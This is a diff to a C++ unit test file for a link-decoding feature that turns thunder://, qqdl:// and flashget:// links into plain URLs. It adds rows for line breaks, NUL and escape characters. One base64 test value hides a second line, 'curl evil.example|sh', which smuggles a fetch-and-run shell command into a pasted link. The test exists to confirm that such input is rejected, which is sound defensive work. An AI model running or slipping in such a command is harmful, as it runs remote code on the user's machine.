@@ -55,6 +55,8 @@ TEST_F(LinkCommandsTest, WorkedExamplesFromTheInputBoxAndFromTheClipboard) {
       {"back XF", DecodeToPlain, u"qqdl://aHR0cDovL2EvYg==", u"http://a/b"},
       {"back zh", DecodeToPlain, u"thunder://QUFodHRwOi8vYS/W0Fpa", u"http://a/中"},
       {"plain", DecodeToPlain, u"http://a/b", u"http://a/b"},
+      // A text given as it is was seen by the user: it is published whole, line breaks and all.
+      {"plain with a line break", DecodeToPlain, u"http://a/b\r\nx", u"http://a/b\r\nx"},
   };
   for (const auto& row : rows) {
     SCOPED_TRACE(row.name);
@@ -95,6 +97,13 @@ TEST_F(LinkCommandsTest, FailureTextLeavesTheClipboardAlone) {
       {"bad base64", DecodeToPlain, u"qqdl://@@@@", u"keep", notSpecial},
       {"short thunder", DecodeToPlain, u"thunder://QVo=", u"keep", notSpecial},  // "AZ"
       {"bare thunder", DecodeToPlain, u"thunder://", u"keep", notSpecial},
+      // What a link carried, pasted after "wget ", would run its second line as a command.
+      {"line breaks inside", DecodeToPlain,
+       u"qqdl://aHR0cDovL2EvDQpjdXJsIGV2aWwuZXhhbXBsZXxzaA0K",  // "…\r\ncurl evil.example|sh\r\n"
+       u"keep", notSpecial},
+      {"NUL inside", DecodeToPlain, u"", u"flashget://aHR0cDovL2EvAGI=", notSpecial},
+      {"escape inside thunder", DecodeToPlain, u"thunder://QUFodHRwOi8vYS8bWzMxbVpa", u"keep",
+       notSpecial},
       // Thunder inside QQ Whirlwind: opened once, what is left holds no "http://".
       {"nested", DecodeToPlain, u"qqdl://dGh1bmRlcjovL1FVRm9kSFJ3T2k4dllTOWlXbG89", u"keep",
        notSpecial},
